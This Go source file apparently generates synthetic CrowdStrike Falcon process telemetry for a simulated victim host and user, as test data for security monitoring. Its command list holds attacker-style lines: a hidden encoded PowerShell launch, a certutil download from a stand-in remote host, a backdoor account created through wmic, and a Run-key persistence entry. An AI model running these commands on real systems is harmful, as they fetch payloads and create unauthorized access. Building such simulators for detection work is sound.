package generator

import (
	"fmt"

	"github.com/brianvoe/gofakeit/v6"
)

// CrowdStrikeProcess emits endpoint process-execution telemetry on the
// victim host, attributed to the victim user when one is correlated.
type CrowdStrikeProcess struct {
	faker *gofakeit.Faker
}

func (g *CrowdStrikeProcess) Name() string       { return "crowdstrike_process" }
func (g *CrowdStrikeProcess) SourceType() string { return "crowdstrike:falcon" }
func (g *CrowdStrikeProcess) Index() string      { return "endpoint" }

func (g *CrowdStrikeProcess) Description() string {
	return "CrowdStrike Falcon process execution telemetry"
}

func (g *CrowdStrikeProcess) Generate(count int, overrides map[string]interface{}) ([]map[string]interface{}, error) {
	hostname := g.faker.DomainName()
	if host, ok := IdentityParam(overrides, "victim_host"); ok {
		hostname = host.Hostname
	}
	username := g.faker.Username()
	if victim, ok := IdentityParam(overrides, "victim_user"); ok {
		username = victim.Username
	}

	commands := []string{
		`powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAA=`,
		`cmd.exe /c whoami /all`,
		`rundll32.exe C:\Users\Public\update.dll,Start`,
		`wmic.exe process call create "net user backup Passw0rd! /add"`,
		`certutil.exe -urlcache -split -f http://cdn-updates.io/a.bin a.bin`,
		`reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd`,
	}

	events := make([]map[string]interface{}, 0, count)
	for i := 0; i < count; i++ {
		cmd := g.faker.RandomString(commands)
		events = append(events, map[string]interface{}{
			"event_simpleName": "ProcessRollup2",
			"aid":              g.faker.UUID(),
			"ComputerName":     hostname,
			"UserName":         username,
			"ImageFileName":    fmt.Sprintf(`C:\Windows\System32\%s`, firstField(cmd)),
			"CommandLine":      cmd,
			"ParentBaseFileName": g.faker.RandomString([]string{
				"explorer.exe", "winword.exe", "outlook.exe", "services.exe",
			}),
			"RawProcessId": g.faker.Number(1000, 65535),
			"SHA256HashData": g.faker.LetterN(64),
			"Tactic":         "Execution",
			"Technique":      "Command and Scripting Interpreter",
		})
	}
	return events, nil
}

// firstField returns the executable token of a command line.
func firstField(cmd string) string {
	for i := 0; i < len(cmd); i++ {
		if cmd[i] == ' ' {
			return cmd[:i]
		}
	}
	return cmd
}
